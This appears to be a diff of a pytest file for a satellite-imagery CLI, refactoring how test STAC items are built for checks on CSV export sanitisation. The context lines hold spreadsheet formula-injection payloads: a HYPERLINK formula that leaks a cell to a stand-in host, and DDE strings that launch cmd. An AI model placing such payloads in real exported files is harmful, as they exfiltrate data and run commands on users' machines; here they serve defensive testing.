@@ -11,7 +11,6 @@ bundle; exported by the CLI (``export``, ``search --out``, ``classify --out``, w
 from __future__ import annotations
 
 import csv
-import json
 from pathlib import Path
 
 import pytest
@@ -19,11 +18,10 @@ from click.testing import CliRunner
 
 from rsir_stac.cli import main
 from rsir_stac.export import FORMULA_STARTS, csv_cell
-from tests.conftest import make_geotiff
+from tests.conftest import make_geotiff, stac_item_file
 
 pytestmark = pytest.mark.filterwarnings("ignore:Failed to obtain server version")
 
-GEOTIFF = "image/tiff; application=geotiff"
 LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 MINUS = "-2+3+cmd|' /C calc'!A0"
@@ -52,11 +50,7 @@ def build_hostile_index(root, tiny_bundle):
     sources = []
     for n, (item_id, s) in enumerate(ITEMS.items()):
         tif = make_geotiff(root / f"s{n}.tif", width=256, height=256, origin=s["origin"], seed=s["seed"])
-        item = {"type": "Feature", "stac_version": "1.0.0", "id": item_id, "collection": s["collection"],
-                "geometry": None, "properties": {"datetime": f"202{n + 1}-06-01T10:00:00Z"}, "links": [],
-                "assets": {"image": {"href": tif.name, "type": GEOTIFF, "roles": ["data"]}}}
-        (root / f"s{n}.json").write_text(json.dumps(item))
-        sources.append(str(root / f"s{n}.json"))
+        sources.append(stac_item_file(root / f"s{n}.json", item_id, s["collection"], f"202{n + 1}-06-01T10:00:00Z", tif))
     report = ingest(sources, index=str(root / "idx"), model=tiny_bundle,
                     options=IngestOptions(tile_size=64, gsd=None, native_gsd=True))
     assert report.ok and report.points_written == 32, report
